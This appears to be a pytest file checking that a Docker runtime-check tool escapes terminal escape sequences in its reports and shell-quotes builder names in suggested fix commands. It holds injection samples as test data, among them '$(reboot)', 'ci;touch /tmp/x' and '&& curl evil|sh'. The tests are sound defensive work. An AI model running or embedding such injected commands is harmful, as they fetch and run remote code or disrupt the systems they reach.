"""What comes from outside reaches a terminal escaped, and a pasted command as one word each."""

from __future__ import annotations

import json
import shlex

import pytest

from runtimecheck import report
from runtimecheck.report.style import Style
from runtimecheck.report.text import render_text
from runtimecheck.safe import escaped, printable
from runtimecheck.verdict import decide
from support import report_samples as samples
from support.nodes import crun_rejecting_keep

TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[H"
RED = "\x1b[31m"
RLO = "\u202e"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain name-1.2", "plain name-1.2"),
        ("héllo ✓", "héllo ✓"),
        (TITLE, "\\e]0;owned\\x07"),
        (CLEAR, "\\e[2J\\e[H"),
        ("a\nb\tc\rd", "a\\nb\\tc\\rd"),
        ("\x9b31m", "\\x9b31m"),  # C1 control sequence introducer
        (f"abc{RLO}fed", "abc\\u202efed"),
        ("\x7f\x00", "\\x7f\\x00"),
    ],
)
def test_printable(raw: str, shown: str) -> None:
    assert printable(raw) == shown


def hostile_result():
    result = samples.crun_blocked()
    builder = result.builders[0]
    builder.name = f"ci{TITLE}"
    node = builder.nodes[0]
    node.name = f"ci0{CLEAR}"
    node.notes.append(f"image {RED}evil{RLO}")
    node.runtime.identity.version = f"1.8.1{RED}"
    node.checks[2].evidence = f"probe: rejected: exit 64: {CLEAR}run: unrecognized option"
    return result


def test_the_text_report_writes_no_control_character() -> None:
    text = render_text(hostile_result(), Style(color=False))
    assert not any(ord(c) < 0x20 and c != "\n" for c in text)
    assert RLO not in text
    assert "ci\\e]0;owned\\x07" in text and "ci0\\e[2J\\e[H" in text
    coloured = render_text(hostile_result(), Style(color=True))
    # Our own colour codes only: every ESC opens an SGR sequence of the style.
    assert all(part.startswith("[") for part in coloured.split("\x1b")[1:])
    assert "\x1b]" not in coloured and "\x1b[2J" not in coloured


def test_github_annotations_write_no_control_character() -> None:
    out = report.render(hostile_result(), "github")
    assert "\x1b" not in out and RLO not in out
    assert all(line.startswith(("::", "docker-runtimecheck:")) for line in out.splitlines())


def test_json_and_sarif_keep_the_strings_as_data() -> None:
    document = json.loads(report.render(hostile_result(), "json"))
    assert document["builders"][0]["name"] == f"ci{TITLE}"
    assert document["builders"][0]["nodes"][0]["runtime"]["version"] == f"1.8.1{RED}"
    sarif = report.render(hostile_result(), "sarif")
    assert "\x1b" not in sarif  # escaped by the JSON encoder...
    assert f"ci{TITLE}" in sarif.encode().decode("unicode_escape")  # ...and kept as data


def test_escaping_copies_and_leaves_the_result_alone() -> None:
    result = hostile_result()
    copy = escaped(result)
    assert copy.builders[0].name == "ci\\e]0;owned\\x07"
    assert result.builders[0].name == f"ci{TITLE}"


@pytest.mark.parametrize(
    "builder",
    ["my builder", "ci;touch /tmp/x", "$(reboot)", "it's", f"ci{TITLE}"],
)
def test_names_in_fix_commands_are_single_shell_words(builder: str, kb) -> None:
    image = "registry.example/buildkit:v0.12.5 && curl evil|sh"
    facts = crun_rejecting_keep(builder, image=image, binary_override="my crun",
                                path="/usr/bin/my runc", evidence="exit 64: no --keep")  # fmt: skip
    keep = next(c for c in decide(kb, facts).checks if c.id == "run-keep")
    commands = [f.split(": ", 1)[1] for f in keep.fix if ": docker buildx rm " in f]
    assert commands
    binaries = []
    for command in commands:
        words = shlex.split(command)
        assert words[:5] == ["docker", "buildx", "rm", "--keep-state", builder]
        assert words[words.index("--name") + 1] == builder
        flags = [w for w in words if w.startswith("--buildkitd-flags=")]
        assert len(flags) == 1
        binaries += [f for f in shlex.split(flags[0].split("=", 1)[1]) if "worker-binary" in f]
    assert "--oci-worker-binary=my crun" in binaries
    upgrade = next(f for f in keep.fix if f.startswith("Upgrade"))
    assert "'/usr/bin/my runc'" in upgrade
